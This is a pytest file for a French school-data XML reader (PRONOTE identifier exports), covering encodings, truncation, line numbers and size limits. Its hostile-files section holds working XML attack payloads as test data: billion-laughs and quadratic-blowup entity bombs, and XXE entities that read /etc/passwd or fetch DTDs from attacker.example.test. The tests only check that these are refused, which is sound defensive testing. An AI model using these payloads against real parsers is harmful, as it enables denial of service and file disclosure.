# --- encodings refused --------------------------------------------------------------------------

ASCII_HEADER = dict(HEADER, NomEtablissement="College")


def test_latin_1_bytes_in_an_undeclared_file_are_refused_at_their_line():
    data = build(header=ASCII_HEADER, encoding=None, codec="latin-1")
    err = refused(data)
    assert err.line == line_of(data, ident(1))  # Marie-Désirée is the first non-ASCII name
    assert "l'octet 0xE9 n'est pas du UTF-8 valide (aucun encodage déclaré : UTF-8 supposé)" in err.cause


def test_latin_1_bytes_declared_as_utf8_are_refused():
    data = build(header=ASCII_HEADER, codec="latin-1")
    err = refused(data)
    assert err.line == line_of(data, ident(1)) and "n'est pas du UTF-8 valide" in err.cause
    assert "supposé" not in err.cause


def test_an_undefined_windows_1252_byte_is_refused():
    data = build({}, encoding="windows-1252", crlf=True).replace(b"</IdentifiantsPRONOTE>", b"<!-- \x81 -->\r\n</IdentifiantsPRONOTE>")
    err = refused(data)
    assert err.line == 3 and "0x81 n'est pas du windows-1252 valide" in err.cause


def test_non_ascii_in_a_us_ascii_file_is_refused():
    data = build(encoding="US-ASCII", codec="utf-8")
    assert "n'est pas du US-ASCII valide" in refused(data).cause


@pytest.mark.parametrize("name", ["ISO-8859-15", "UTF-16", "EBCDIC-US", "Shift_JIS", "macintosh"])
def test_other_declared_encodings_are_refused(name):
    err = refused(build(encoding=name, codec="utf-8"))
    assert err.line == 1 and f"l'encodage {name} n'est pas pris en charge" in err.cause


@pytest.mark.parametrize("codec", ["utf-16", "utf-16-le", "utf-16-be", "utf-32"])
def test_utf16_and_utf32_files_are_refused(codec):
    text = build(encoding=None).decode("utf-8")
    err = refused(text.encode(codec))
    assert err.line == 1 and ("UTF-16" in err.cause or "valide" in err.cause)


def test_bom_contradicting_the_declaration_is_refused():
    err = refused(build(bom=True, encoding="ISO-8859-1"))
    assert err.line == 1 and "marque d'ordre des octets" in err.cause


def test_malformed_declaration_is_refused():
    data = build().replace(b'<?xml version="1.0" encoding="UTF-8"?>', b'<?xml version="1.0" encoding=UTF-8?>')
    err = refused(data)
    assert err.line == 1 and "déclaration XML" in err.cause


def test_declaration_not_at_the_start_is_refused():
    data = b"\n" + build()
    err = refused(data)
    assert err.line in (1, 2) and "XML mal formé" in err.cause


# --- empty and truncated --------------------------------------------------------------------------

@pytest.mark.parametrize("data", [b"", b"   \r\n\t", b"\xef\xbb\xbf"])
def test_an_empty_file_is_refused(data):
    err = refused(data)
    assert err.line == 1 and ("vide" in err.cause or "XML mal formé" in err.cause)


@pytest.mark.parametrize("fraction", [0.1, 0.3, 0.5, 0.7, 0.9, 0.99])
def test_a_truncated_file_is_refused_at_its_last_line(fraction):
    whole = build(crlf=True)
    data = whole[: int(len(whole) * fraction)]
    err = refused(data)
    assert "XML mal formé" in err.cause or "tronqué" in err.cause
    assert err.line in (data.count(b"\n") + 1, data.count(b"\n"))


def test_a_file_cut_in_the_middle_of_a_character_is_refused_as_truncated():
    whole = build()
    cut = whole.index("Œ".encode()) + 1
    err = refused(whole[:cut])
    assert err.cause == "le fichier s'arrête au milieu d'un caractère : il est tronqué"
    assert err.line == line_of(whole, "BŒUF")


def test_a_file_cut_just_before_the_end_tag_is_refused():
    whole = build()
    data = whole[: whole.rindex(b"</IdentifiantsPRONOTE>")]
    err = refused(data)
    assert "XML mal formé" in err.cause and err.line == data.count(b"\n") + 1


def test_line_numbers_past_65535_are_right():
    people = {"Eleves": [{"Identifiant": ident(n), "Nom": "A", "Prenom": f"P{n}"} for n in range(70000)]}
    data = build(people)
    data = data.replace(f'"{ident(69990)}" Nom="A"'.encode(), f'"{ident(69990)}" Nom="A" Nom="B"'.encode())
    err = refused(data)
    assert err.line == line_of(data, ident(69990)) > 65535


def test_a_large_file_is_read_with_its_lines():
    people = {"Eleves": [{"Identifiant": ident(n), "Nom": "A", "Prenom": f"P{n}"} for n in range(70000)]}
    data = build(people)
    file = read_identifiers(data)
    assert len(file.people) == 70000
    assert file.people[-1].line == line_of(data, ident(69999)) > 65535


# --- hostile files ------------------------------------------------------------------------------------

def _timed_refusal(data) -> tuple[IdentifiersFileError, float]:
    start = time.perf_counter()
    err = refused(data)
    return err, time.perf_counter() - start


BILLION_LAUGHS = ('<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n'
                  + "".join(f' <!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">\n'
                            for i in range(1, 10))
                  + ']>\n<IdentifiantsPRONOTE Version="&lol9;" DateExport="2025-09-01T00:00:00" UAI="0671234C"/>\n')
XXE = ('<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE IdentifiantsPRONOTE [\n'
       ' <!ENTITY xxe SYSTEM "file:///etc/passwd">\n]>\n'
       '<IdentifiantsPRONOTE Version="1" DateExport="2025-09-01T00:00:00" UAI="0671234C">\n'
       '<Eleves><Eleve Identifiant="73WNQJFY5T8H0001" Nom="&xxe;" Prenom="x"/></Eleves>\n</IdentifiantsPRONOTE>\n')
HOSTILE = {
    "billion-laughs": BILLION_LAUGHS,
    "xxe-file": XXE,
    "xxe-http": XXE.replace("file:///etc/passwd", "http://attacker.example.test/x"),
    "parameter-entity": ('<?xml version="1.0"?>\n<!DOCTYPE r [\n <!ENTITY % p SYSTEM "http://attacker.example.test/p.dtd">'
                         '\n %p;\n]>\n<IdentifiantsPRONOTE/>\n'),
    "external-dtd": ('<?xml version="1.0"?>\n<!DOCTYPE IdentifiantsPRONOTE SYSTEM "http://attacker.example.test/x.dtd">\n'
                     '<IdentifiantsPRONOTE/>\n'),
    "quadratic-blowup": ('<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY a "' + "x" * 50000 + '">]>\n<IdentifiantsPRONOTE V="'
                         + "&a;" * 50000 + '"/>\n'),
    "doctype-lowercase": '<!doctype IdentifiantsPRONOTE>\n<IdentifiantsPRONOTE/>\n',
    "doctype-no-declaration": '\n\n<!DOCTYPE IdentifiantsPRONOTE [ ]>\n<IdentifiantsPRONOTE/>\n',
}


@pytest.mark.parametrize("name", list(HOSTILE))
def test_hostile_files_are_refused_fast(name):
    data = HOSTILE[name].encode("utf-8")
    err, seconds = _timed_refusal(data)
    assert seconds < HOSTILE_BOUND
    assert "interdit" in err.cause
    assert err.line == line_of(data, "<!")
    assert "root:" not in str(err)  # /etc/passwd never read


def test_deep_nesting_is_refused_fast():
    data = build({}).replace(b"</IdentifiantsPRONOTE>", b"<a>" * 100000 + b"</a>" * 100000 + b"</IdentifiantsPRONOTE>")
    err, seconds = _timed_refusal(data)
    assert seconds < HOSTILE_BOUND
    assert err.line is not None


# --- fixture files ---------------------------------------------------------------------------------

def test_fixture_as_pronote_writes_it():
    path = FIXTURES / "export_pronote.xml"
    data = path.read_bytes()
    assert b"\r\n" in data and not data.startswith(b"\xef\xbb\xbf")
    file = read_identifiers(path)
    assert file.uai == "0671234C"
    assert file.counts() == {"enseignants": 3, "eleves": 5, "responsables": 4, "maitres_de_stage": 1,
                             "inspecteurs": 1, "personnels": 2}
    assert file.person("73WNQJFY5T8HU9A4").nom == "ALBERT"
    assert file.person("QWMSVHAN2FEPBKC7").cas_login == "florence.gervais"
    assert file.person("8HM3ZXDPR9CYNBE4").children == ("2FEPBKC7QWMSVHAN", "5T8HU9A473WNQJFY")
    assert file.person("DRM5T74PYVSCFJAZ").parent_access is False
    assert file.person("5T8HU9A473WNQJFY").left_on is None
    assert file.person("A4U7XDSBN9Y3MPWH").left_on == dt.date(2025, 7, 4)


def test_fixture_windows_1252_with_namespace_and_french_dates():
    file = read_identifiers(FIXTURES / "ancien_windows1252.xml")
    eleve = file.by_category("eleves")[0]
    assert (eleve.nom, eleve.prenom, eleve.birth_date) == ("CŒURDEVEY", "Zoé", dt.date(2012, 3, 4))
    assert file.by_category("responsables")[0].nom == "D’ALMEIDA"
    assert file.only_without_cas is True


def test_fixture_bom_and_prefixed_namespace():
    file = read_identifiers(FIXTURES / "bom_namespace.xml")
    assert [p.category for p in file.people] == ["enseignants", "eleves"]


@pytest.mark.parametrize("name, line, words", [
    ("xxe.xml", 2, "<!DOCTYPE"),
    ("billion_laughs.xml", 2, "<!DOCTYPE"),
    ("tronque.xml", 9, "XML mal formé"),
    ("doublon.xml", 6, "donné à deux personnes : le Eleve ligne 5 et le Eleve ligne 6"),
    ("enfant_professeur.xml", 9, "le Professeur de la ligne 3, pas un Eleve"),
])
def test_bad_fixtures(name, line, words):
    path = FIXTURES / name
    start = time.perf_counter()
    err = refused(path)
    assert time.perf_counter() - start < HOSTILE_BOUND
    assert err.line == line and words in err.cause, str(err)
    assert name in str(err)


# --- properties --------------------------------------------------------------------------------------

NAME_CHARS = st.characters(codec="utf-8", exclude_categories=("Cs", "Cc", "Co", "Cn"))  # what XML 1.0 allows


@given(nom=st.text(NAME_CHARS, max_size=30), prenom=st.text(NAME_CHARS, max_size=30),
       variant=st.sampled_from(list(VARIANTS)))
def test_property_any_name_round_trips(nom, prenom, variant):
    people = {"Eleves": [{"Identifiant": ident(1), "Nom": nom, "Prenom": prenom, "DateNaissance": dt.date(2012, 1, 2)}]}
    person = read_identifiers(build(people, **VARIANTS[variant])).people[0]
    assert (person.nom, person.prenom) == (nom, prenom)


@given(st.binary(max_size=300))
def test_property_random_bytes_are_refused_with_a_line(data):
    # a few random bytes are never a valid file, and nothing but IdentifiersFileError comes out
    err = refused(data)
    assert err.cause and err.line is not None and err.line >= 1


@given(cut=st.integers(min_value=0, max_value=2000))
def test_property_every_prefix_of_a_file_is_refused_or_whole(cut):
    whole = build(crlf=True)
    data = whole[:cut]
    if data.rstrip() == whole.rstrip():
        assert read_identifiers(data)
        return
    err = refused(data)
    assert err.line is not None and 1 <= err.line <= data.count(b"\n") + 1


def test_every_fixture_file_is_small_and_present():
    names = sorted(p.name for p in FIXTURES.iterdir())
    assert {"export_pronote.xml", "ancien_windows1252.xml", "bom_namespace.xml", "xxe.xml", "billion_laughs.xml",
            "tronque.xml", "doublon.xml", "enfant_professeur.xml"} <= set(names)
    for name in names:
        assert os.path.getsize(FIXTURES / name) < 10_000


# --- the reader's bounds (issue 14 §4) ---------------------------------------------------------------

def test_an_attribute_longer_than_1000_characters_is_refused_naming_its_line():
    people = sample()
    people["Eleves"][1]["Nom"] = "A" * (2 * 1024 * 1024)  # 2 MiB
    data = build(people)
    start = time.perf_counter()
    err = refused(data)
    assert time.perf_counter() - start < HOSTILE_BOUND
    line = line_of(data, ident(11))
    assert err.line == line
    assert f"attribut Nom trop long ligne {line}" in str(err) and str(err).startswith("Fichier d'identifiants")
    people["Eleves"][1]["Nom"] = "A" * 1000  # the bound itself is fine
    assert read_identifiers(build(people)).person(ident(11)).nom == "A" * 1000


@pytest.mark.parametrize("kind, needle, words", [
    ("attribute", "Nom", "attribut trop long ligne"),
    ("text", "texte", "texte trop long ligne"),
])
def test_libxml_resource_limits_are_reported_in_plain_french(tmp_path, kind, needle, words):
    """Past libxml's own limits (10 MB): its "try XML_PARSE_HUGE" never reaches the user."""
    big = "B" * 10_000_100
    people = sample()
    if kind == "attribute":
        people["Eleves"][0]["Nom"] = big
    else:
        people["Eleves"][0]["_inner"] = big
    path = tmp_path / "gros.xml"
    path.write_bytes(build(people))
    err = refused(path)
    assert words in err.cause and "XML_PARSE_HUGE" not in str(err), str(err)
    assert err.line == line_of(path.read_bytes(), ident(10))


def test_deep_nesting_never_shows_libxml_advice():
    data = build({}).replace(b"</IdentifiantsPRONOTE>", b"<Eleves>" + b"<a>" * 300 + b"</a>" * 300
                             + b"</Eleves></IdentifiantsPRONOTE>")
    err = refused(data)
    assert "XML_PARSE_HUGE" not in str(err) and err.line is not None


def _with_alarm(seconds: int):
    import signal

    def fail(*_):
        raise AssertionError("the reader blocked")

    signal.signal(signal.SIGALRM, fail)
    signal.alarm(seconds)


def test_a_named_pipe_is_refused_at_once(tmp_path):
    import signal
    fifo = tmp_path / "identifiants.xml"
    os.mkfifo(fifo)
    _with_alarm(5)
    try:
        start = time.perf_counter()
        err = refused(str(fifo))
        assert time.perf_counter() - start < HOSTILE_BOUND
    finally:
        signal.alarm(0)
    assert f"{fifo} est un tube nommé, pas un fichier ordinaire" in str(err)


def test_a_device_is_refused_at_once():
    err = refused("/dev/zero")
    assert "/dev/zero est un périphérique, pas un fichier ordinaire" in str(err)


def test_a_missing_file_is_refused():
    err = refused("/nonexistent/identifiants.xml")
    assert "illisible" in str(err)


@given(size=st.integers(min_value=1, max_value=80), variant=st.sampled_from(list(VARIANTS)))
def test_property_the_stream_reads_the_same_whatever_its_chunks(size, variant):
    """Chunk boundaries in the middle of a character, a tag, a comment, CDATA or a declaration change nothing."""
    import ansible_collections.ent.pronote.plugins.module_utils._identifiers as module
    data = build(sample(), **VARIANTS[variant], inside_root="<!-- a <Eleve> in a comment, <![CDATA[ and < -->")
    whole = read_identifiers(data)
    saved = module.CHUNK
    module.CHUNK = size
    try:
        assert read_identifiers(data) == whole
        first = data.index(b"\n  <")
        hostile = data[:first] + b"\n<!DOCTYPE x [<!ENTITY a 'b'>]>" + data[first:]
        err = refused(hostile)
        assert "interdit" in err.cause and err.line == line_of(hostile, "<!DOCTYPE")
    finally:
        module.CHUNK = saved


def test_line_numbers_stay_right_across_chunks_past_65535(monkeypatch):
    import ansible_collections.ent.pronote.plugins.module_utils._identifiers as module
    people = {"Eleves": [{"Identifiant": ident(n), "Nom": "N", "Prenom": "P", "DateNaissance": dt.date(2012, 1, 1)}
                         for n in range(70000)]}
    data = build(people)
    monkeypatch.setattr(module, "CHUNK", 4093)
    file = read_identifiers(data)
    assert [p.line for p in file.people[-3:]] == [line_of(data, ident(n)) for n in range(69997, 70000)]
